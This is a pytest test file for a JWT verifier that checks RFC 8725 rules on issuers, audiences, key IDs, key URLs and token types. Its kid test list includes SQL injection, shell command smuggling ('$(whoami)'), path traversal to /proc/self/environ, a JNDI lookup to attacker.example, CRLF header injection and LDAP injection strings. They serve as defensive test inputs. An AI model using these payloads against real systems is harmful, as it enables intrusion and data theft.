"""RFC 8725, sections 3.8 to 3.12: claims are checked against the configuration, and kinds of tokens are separate."""

from __future__ import annotations

import asyncio

import pytest

from authgate.dev.compact import OMIT, Omit
from authgate.dev.keys import SigningKey
from authgate.errors import Reason
from tests.conformance.trusted import AUDIENCE, ISSUER, Trusted, claims, gate, judged, trusting
from tests.support.key_pool import KeyPool

OTHER_ISSUER = "https://other.example"
OTHER_AUDIENCE = "another"


@pytest.fixture(scope="module")
def key(pool: KeyPool) -> SigningKey:
    """The issuer's key."""
    return pool.key("ES256", kid="issuer-key")


@pytest.fixture(scope="module")
def other(pool: KeyPool) -> SigningKey:
    """The key of another trusted issuer."""
    return pool.key("ES256", 1, kid="other-key")


@pytest.fixture(scope="module")
def attacker(pool: KeyPool) -> SigningKey:
    """A key that no issuer publishes."""
    return pool.key("ES256", 2, kid="attacker-key")


@pytest.mark.parametrize(
    ("kid", "reason"),
    [
        ("other-key", Reason.KEY_UNKNOWN),
        ("issuer-key", Reason.SIGNATURE_INVALID),
        (OMIT, Reason.SIGNATURE_INVALID),
    ],
    ids=["its own kid", "the issuer's kid", "no kid"],
)
async def test_3_8_keys_belong_to_their_issuer(
    key: SigningKey, other: SigningKey, kid: str | Omit, reason: Reason
) -> None:
    """A token that names one trusted issuer and is signed with another issuer's key is rejected."""
    verifier = gate(Trusted((key.jwk(),)), Trusted((other.jwk(),), issuer=OTHER_ISSUER))
    assert await judged(verifier, other.sign(claims({"iss": ISSUER}), {"kid": kid})) is reason


async def test_3_8_two_issuers_can_use_one_kid(key: SigningKey, pool: KeyPool) -> None:
    """A token is verified with its own issuer's key."""
    namesake = pool.key("ES256", 1, kid="issuer-key")
    verifier = gate(Trusted((key.jwk(),)), Trusted((namesake.jwk(),), issuer=OTHER_ISSUER))
    assert await judged(verifier, namesake.sign(claims())) is Reason.SIGNATURE_INVALID


async def test_3_8_an_unknown_issuer_is_rejected(key: SigningKey) -> None:
    """This holds even if a trusted key signed the token."""
    assert await judged(trusting(key), key.sign(claims({"iss": OTHER_ISSUER}))) is Reason.ISSUER_UNKNOWN


@pytest.mark.parametrize(
    "subject", [OMIT, None, "", "a\x00b", "a\nb", "a\x85b", "\ud800", "a\x7f"], ids=ascii
)
async def test_3_8_the_subject_must_be_usable_as_a_username(key: SigningKey, subject: object) -> None:
    """A subject that is missing, empty or not valid in a header gives no identity."""
    assert await judged(trusting(key), key.sign(claims({"sub": subject}))) is Reason.IDENTITY_INVALID


async def test_3_9_audiences_belong_to_their_issuer(key: SigningKey, other: SigningKey) -> None:
    """An audience that is accepted from one issuer is not accepted from another."""
    verifier = gate(
        Trusted((key.jwk(),)),
        Trusted((other.jwk(),), issuer=OTHER_ISSUER, audiences=frozenset({OTHER_AUDIENCE})),
    )
    token = key.sign(claims({"aud": OTHER_AUDIENCE}))
    assert await judged(verifier, token) is Reason.AUDIENCE_MISMATCH


@pytest.mark.parametrize("audience", [OMIT, OTHER_AUDIENCE, [], ""], ids=repr)
async def test_3_9_audience_is_required(key: SigningKey, audience: object) -> None:
    """A token without an audience, or with another one, is rejected."""
    assert await judged(trusting(key), key.sign(claims({"aud": audience}))) is Reason.AUDIENCE_MISMATCH


KIDS = [
    "../../../../../../dev/null",
    "/proc/self/environ",
    "issuer-key' OR '1'='1",
    "issuer-key'; DROP TABLE keys; --",
    "issuer-key|whoami",
    "$(whoami)",
    "${jndi:ldap://attacker.example/a}",
    "https://attacker.example/keys",
    "issuer-key\x00",
    "issuer-key ",
    "Issuer-Key",
    "issuer-key\r\nX-Auth-Request-User: root",
    "*)(uid=*",
    "__proto__",
    "",
    "0",
    "\ud800",
    "k" * 512,
]


@pytest.mark.parametrize("kid", KIDS, ids=lambda kid: ascii(kid[:40]))
async def test_3_10_a_kid_is_only_compared(key: SigningKey, kid: str) -> None:
    """A kid is compared with the published ones. It has no other effect."""
    assert await judged(trusting(key), key.sign(claims(), {"kid": kid})) is Reason.KEY_UNKNOWN


async def test_3_10_a_long_kid_is_rejected(key: SigningKey) -> None:
    """A kid of more than 512 characters is rejected before it is used."""
    assert await judged(trusting(key), key.sign(claims(), {"kid": "k" * 513})) is Reason.TOKEN_MALFORMED


@pytest.mark.parametrize(
    ("kid", "reason"),
    [
        ("issuer-key", Reason.SIGNATURE_INVALID),
        ("attacker-key", Reason.KEY_UNKNOWN),
        (OMIT, Reason.SIGNATURE_INVALID),
    ],
    ids=["the issuer's kid", "its own kid", "no kid"],
)
async def test_3_10_an_embedded_key_is_not_used(
    key: SigningKey, attacker: SigningKey, kid: str | Omit, reason: Reason
) -> None:
    """A token that is signed with the key in its own header is rejected."""
    token = attacker.sign(claims(), {"kid": kid, "jwk": attacker.jwk()})
    assert await judged(trusting(key), token) is reason


@pytest.mark.parametrize("parameter", ["jku", "x5u"])
async def test_3_10_urls_are_never_fetched(key: SigningKey, attacker: SigningKey, parameter: str) -> None:
    """The URL of a key in a token is not fetched."""
    visits: list[object] = []
    server = await asyncio.start_server(lambda *streams: visits.append(streams), "127.0.0.1", 0)
    async with server:
        url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/keys"
        await judged(trusting(key), attacker.sign(claims(), {parameter: url}))
        await judged(trusting(key), attacker.sign(claims(), {parameter: url, "kid": key.kid}))
        await asyncio.sleep(0)
        assert visits == []


@pytest.mark.parametrize("parameter", ["jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"])
async def test_3_10_parameters_that_point_to_keys_are_ignored(
    key: SigningKey, attacker: SigningKey, parameter: str
) -> None:
    """A valid token is accepted with any value of such a parameter."""
    values = {"jwk": attacker.jwk(), "x5c": ["AAAA"]}
    token = key.sign(claims(), {parameter: values.get(parameter, "https://attacker.example")})
    assert await judged(trusting(key), token) is Reason.AUTHENTICATED


@pytest.mark.parametrize(
    "typ",
    [
        "logout+jwt",
        "dpop+jwt",
        "secevent+jwt",
        "token-introspection+jwt",
        "oauth-authz-req+jwt",
        "application/logout+jwt",
        "application/application/jwt",
        "example/jwt",
        "jose",
        "jwt2",
        "jwt ",
        "",
    ],
    ids=repr,
)
async def test_3_11_other_types_are_rejected(key: SigningKey, typ: str) -> None:
    """A signed token of a type that is not allowed is rejected."""
    assert await judged(trusting(key), key.sign(claims(), {"typ": typ})) is Reason.TYPE_NOT_ACCEPTED


@pytest.mark.parametrize("typ", [OMIT, "JWT", "at+jwt"], ids=str)
async def test_3_11_allowed_types_are_accepted(key: SigningKey, typ: object) -> None:
    """The configured types are accepted, and tokens without a type."""
    assert await judged(trusting(key), key.sign(claims(), {"typ": typ})) is Reason.AUTHENTICATED


@pytest.mark.parametrize(
    ("typ", "accepted"), [("JWT", "jwt"), ("at+jwt", "at+jwt"), ("application/at+jwt", "at+jwt")]
)
@pytest.mark.parametrize("configured", ["jwt", "at+jwt"])
async def test_3_12_kinds_are_distinguished_by_type(
    key: SigningKey, typ: str, accepted: str, configured: str
) -> None:
    """A gate for one kind of token rejects another kind of the same issuer, and vice versa."""
    verifier = gate(Trusted((key.jwk(),), types=frozenset({configured})))
    expected = Reason.AUTHENTICATED if accepted == configured else Reason.TYPE_NOT_ACCEPTED
    assert await judged(verifier, key.sign(claims(), {"typ": typ})) is expected


@pytest.mark.parametrize("wanted", [AUDIENCE, OTHER_AUDIENCE])
@pytest.mark.parametrize("audience", [AUDIENCE, OTHER_AUDIENCE])
async def test_3_12_kinds_are_distinguished_by_audience(key: SigningKey, audience: str, wanted: str) -> None:
    """A gate accepts tokens for its own audience and rejects those for another."""
    verifier = gate(Trusted((key.jwk(),), audiences=frozenset({wanted})))
    expected = Reason.AUTHENTICATED if audience == wanted else Reason.AUDIENCE_MISMATCH
    assert await judged(verifier, key.sign(claims({"aud": audience}))) is expected


@pytest.mark.parametrize("use", ["enc", "other", "", None, 1])
async def test_3_12_kinds_are_distinguished_by_the_keys_use(
    key: SigningKey, other: SigningKey, use: object
) -> None:
    """A key that its issuer publishes for another use than signatures verifies no token."""
    verifier = gate(Trusted((key.jwk(), other.jwk({"use": use}))))
    assert await judged(verifier, other.sign(claims())) is Reason.KEY_UNKNOWN


@pytest.mark.parametrize(
    "operations", [[], ["sign"], ["encrypt"], ["wrapKey", "unwrapKey"], "verify", None], ids=repr
)
async def test_3_12_kinds_are_distinguished_by_the_keys_operations(
    key: SigningKey, other: SigningKey, operations: object
) -> None:
    """A key whose published operations do not include `verify` verifies no token."""
    verifier = gate(Trusted((key.jwk(), other.jwk({"key_ops": operations}))))
    assert await judged(verifier, other.sign(claims())) is Reason.KEY_UNKNOWN
